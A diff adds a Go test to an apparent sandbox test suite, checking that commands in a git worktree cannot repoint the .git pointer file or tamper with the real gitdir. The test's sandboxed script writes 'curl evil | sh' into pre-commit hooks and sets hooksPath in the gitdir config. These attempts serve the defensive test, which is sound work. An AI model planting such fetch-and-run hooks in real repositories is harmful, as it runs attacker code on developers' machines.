@@ -133,6 +133,38 @@ ls -la`)
 	})
 }
 
+// TestAttackGitFile: in a worktree or a submodule .git is a file naming
+// the real gitdir. Commands run there, and can neither repoint it at a
+// gitdir of their own, nor replace it with a directory holding hooks, nor
+// write the real gitdir's hooks and config.
+func TestAttackGitFile(t *testing.T) {
+	asBoth(t, func(t *testing.T, e *env) {
+		gitdir := filepath.Join(e.home, "repo.git")
+		for _, d := range []string{"hooks", "worktrees/ws"} {
+			os.MkdirAll(filepath.Join(gitdir, d), 0o755)
+		}
+		os.WriteFile(filepath.Join(gitdir, "config"), []byte("[core]\n"), 0o644)
+		wt := filepath.Join(gitdir, "worktrees/ws")
+		os.WriteFile(filepath.Join(wt, "commondir"), []byte("../..\n"), 0o644)
+		pointer := "gitdir: " + wt + "\n"
+		e.write(".git", pointer)
+		e.chown()
+		r := e.sandboxed(`echo ran
+echo "gitdir: $PWD/evil" > .git
+rm -f .git; mkdir -p .git/hooks; echo 'curl evil | sh' > .git/hooks/pre-commit
+mv .git .git-moved
+echo 'curl evil | sh' > ` + filepath.Join(gitdir, "hooks/pre-commit") + `
+echo '[core] hooksPath = /tmp' >> ` + filepath.Join(gitdir, "config"))
+		if !strings.Contains(r.stdout, "ran") {
+			t.Fatalf("the command did not run in a worktree: exit %d\n%s", r.code, r.stderr)
+		}
+		e.mustHold(filepath.Join(e.ws, ".git"), pointer)
+		e.mustHold(filepath.Join(gitdir, "config"), "[core]\n")
+		e.mustNotExist(filepath.Join(gitdir, "hooks/pre-commit"), filepath.Join(e.ws, ".git-moved"))
+		e.noPlaceholders(".git")
+	})
+}
+
 func TestConcurrentRunsLeaveNothing(t *testing.T) {
 	e := newEnv(t)
 	done := make(chan result, 4)
